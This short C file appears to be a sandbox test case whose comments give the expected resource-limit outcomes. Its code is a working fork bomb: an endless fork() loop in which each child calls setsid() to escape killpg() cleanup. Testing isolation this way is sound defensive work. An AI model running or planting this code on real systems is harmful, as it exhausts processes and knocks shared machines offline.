// ends: cpu_limit; t1: cpu_limit or wall_limit
// Forks without end, and every child leaves the session so that no killpg() reaches it.
// SPDX-License-Identifier: MIT
#include "attack.h"
int main(void) {
    for (;;)
        if (fork() == 0) setsid();
}
